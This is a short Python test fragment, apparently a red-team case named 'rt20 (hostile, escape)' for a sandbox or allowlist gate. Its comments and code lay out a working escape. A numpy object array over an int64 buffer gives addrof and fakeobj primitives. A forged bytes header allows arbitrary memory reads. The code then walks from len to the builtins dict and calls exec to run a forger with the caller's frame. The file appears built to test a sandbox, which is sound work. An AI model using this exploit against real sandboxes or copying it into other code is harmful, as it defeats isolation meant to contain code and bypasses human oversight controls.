# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt20 (hostile, escape): `numpy.ndarray` is a listed callable, and its constructor takes any buffer with any dtype:
# `numpy.ndarray((1,), dtype=object, buffer=b)` over an int64 array `b` makes an object array whose element is the
# pointer stored in `b`. Storing an object writes its address into `b` (addrof); storing an int in `b` and reading
# the element hands back whatever object lives there (fakeobj). A negative `offset=` is not checked either. With a
# fake `bytes` header (any length) built in a real bytes object, `numpy.ndarray(..., buffer=fake, offset=k)` reads
# any address: `len`'s `m_self` is the builtins module, its `md_dict` the builtins dict, and `.get("exec")` runs the
# forger with the runner's frame. Every name here is listed; nothing the gate types is wrong, the values are forged.
import numpy

_b = numpy.zeros(1, dtype=numpy.int64)
_o = numpy.ndarray((1,), dtype=object, buffer=_b)  # hole: an object array over integers the file writes


def _addr(x):
    _o[0] = x
    return int(_b[0])


def _at(a):
    _b[0] = a
    return _o[0]


_s = bytes(numpy.array([1 << 40, _addr(bytes), 1 << 60, -1], dtype=numpy.int64))
_f = _at(_addr(_s) + 32)  # a bytes object 2**60 long, from the bytes header written into _s


def _read(a):
    return int(numpy.ndarray((1,), dtype=numpy.int64, buffer=_f, offset=a - _addr(_s) - 64)[0])


_builtins = _at(_read(_addr(_at(_read(_addr(len) + 24))) + 16))  # len -> builtins module -> its dict
_builtins.get("exec")("import sys\nexec(_FORGE, {'_frame': sys._getframe(1)})", {"_FORGE": _FORGE})
